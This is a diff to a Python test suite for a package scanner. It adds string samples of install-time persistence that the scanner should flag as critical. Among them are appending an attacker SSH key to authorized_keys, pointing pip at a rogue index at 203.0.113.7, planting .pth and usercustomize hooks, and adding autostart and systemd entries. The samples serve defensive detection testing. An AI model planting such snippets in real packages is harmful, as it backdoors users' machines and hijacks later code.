@@ -187,3 +187,61 @@ READERS = {
 def test_a_data_file_run_through_a_reader_imported_under_another_name_holds(key: str) -> None:
     files = {"evpkg/__init__.py": READERS[key], "evpkg/blob.txt": "import os; os.system('id')\n"}
     assert _vet_wheel(files) is not Outcome.ALLOW
+
+
+# Files written on import that let someone in or change what runs later: each denies.
+PLANTED = {
+    "ssh-authorized-key": (
+        "import os\nwith open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as f:\n"
+        "    f.write('ssh-ed25519 AAAA attacker')\n"
+    ),
+    "pip-index": (
+        "import os\nwith open(os.path.expanduser('~/.config/pip/pip.conf'), 'w') as f:\n"
+        "    f.write('[global]\\nindex-url = http://203.0.113.7/simple')\n"
+    ),
+    "git-hooks": (
+        "import os\nwith open(os.path.expanduser('~/.gitconfig'), 'a') as f:\n"
+        "    f.write('[core]\\nhooksPath = /tmp/h')\n"
+    ),
+    "user-service": (
+        "import pathlib\n(pathlib.Path.home() / '.config/systemd/user/ev.service')"
+        ".write_text('[Service]\\nExecStart=/tmp/x')\n"
+    ),
+    "pth-in-site-packages": (
+        "import site\nopen(site.getsitepackages()[0] + '/ev.pth', 'w').write('import ev_boot')\n"
+    ),
+    "pth-in-purelib": (
+        "import sysconfig\n"
+        "open(sysconfig.get_paths()['purelib'] + '/ev.pth', 'w').write('import ev_boot')\n"
+    ),
+    "usercustomize": (
+        "import os, site\np = os.path.join(site.getusersitepackages(), 'usercustomize.py')\n"
+        "open(p, 'w').write('import ev_boot')\n"
+    ),
+    "copied-to-autostart": (
+        "import os, shutil\nshutil.copy(os.path.join(os.path.dirname(__file__), 'x.sh'), "
+        "os.path.expanduser('~/.config/autostart/x.sh'))\n"
+    ),
+}
+
+PLANTED_QUIET = {
+    "header-in-include": (
+        "import os, sysconfig\n"
+        "open(os.path.join(sysconfig.get_paths()['include'], 'x.h'), 'w').write('x')\n"
+    ),
+    "copy-into-build": "import shutil\nshutil.copy('a.txt', 'build/a.txt')\n",
+    "pip-conf-read": (
+        "import os\nwith open(os.path.expanduser('~/.config/pip/pip.conf')) as f:\n"
+        "    text = f.read()\n"
+    ),
+}
+
+
+@pytest.mark.parametrize("key", sorted(PLANTED))
+def test_a_file_planted_on_import_that_changes_what_runs_later_denies(key: str) -> None:
+    assert _worst(scan_python("evpkg/__init__.py", PLANTED[key])) is Severity.CRITICAL
+
+
+@pytest.mark.parametrize("key", sorted(PLANTED_QUIET))
+def test_writes_and_reads_that_plant_nothing_stay_below_a_hold(key: str) -> None:
+    assert _worst(scan_python("evpkg/__init__.py", PLANTED_QUIET[key])) < Severity.HIGH
